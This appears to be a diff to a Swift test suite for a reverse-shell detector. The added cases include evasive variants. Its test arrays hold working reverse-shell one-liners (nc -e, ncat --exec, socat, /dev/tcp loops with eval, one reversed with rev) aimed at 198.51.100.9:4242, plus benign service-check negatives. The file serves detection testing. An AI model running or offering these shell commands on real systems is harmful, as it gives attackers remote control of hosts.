@@ -22,6 +22,8 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
     "mkfifo f; bash -i < f 2>&1 | gnutls-cli --insecure 198.51.100.9 -p 4242 > f",
     "nc -e '/bin/bash -li' 198.51.100.9 4242", "ncat --exec=\"/bin/bash -li\" 198.51.100.9 4242",
     "nc -c 'sh -c \"exec bash -i\"' 198.51.100.9 4242", "socat TCP:198.51.100.9:4242 SYSTEM:\"/bin/sh 2>&1\"",
+    "ncat 198.51.100.9 4242 -e \"cmd.exe /c powershell\"",
+    "nc \"198.51.100.9\" \"4242\" -e \"/bin/bash\"",
   ])
   func seesWhatPartsWords(text: String) {
     let found = shells(text).first { $0.kind == .reverseShell }
@@ -83,7 +85,10 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
   }
 
   /// What is read and run, and what is read and only looked at.
-  @Test(arguments: ["do $l", "do \"$l\"", "do sh -c \"$l\"", "do eval \"$l\"", "do bash -c \"cd /; $l\""])
+  @Test(arguments: [
+    "do $l", "do \"$l\"", "do sh -c \"$l\"", "do eval \"$l\"", "do bash -c \"cd /; $l\"",
+    "do eval \"$(echo $l | rev)\"", "do c=$l; $c",
+  ])
   func aLoopThatRunsItsLinesIsAShell(body: String) {
     let text = "exec 5<>/dev/tcp/198.51.100.9/4242; while read l <&5; \(body) >&5; done"
     #expect(shells(text).first?.port == 4242)
@@ -99,6 +104,8 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
     "bash -ic '</dev/tcp/db/5432' && echo ok", "ssh host bash </dev/null >/dev/tcp/db/5432",
     "bash < run.sh > /dev/tcp/10.0.0.1/514", "diff <(cat /dev/tcp/10.0.0.1/13) f", "mkfifo p; nc h 1 <p | tee log >p",
     "usage: nc -e /bin/sh HOST PORT",
+    "exec 3<>/dev/tcp/127.0.0.1/6379; eval \"$(ssh-agent)\"; read -t 1 r <&3; echo \"$r\"",
+    "exec 3<>/dev/tcp/10.0.0.1/80; read -t1 r <&3; $CHECK \"$r\"",
   ])
   func aServiceCheckIsNoShell(text: String) { #expect(shells(text).isEmpty) }
 
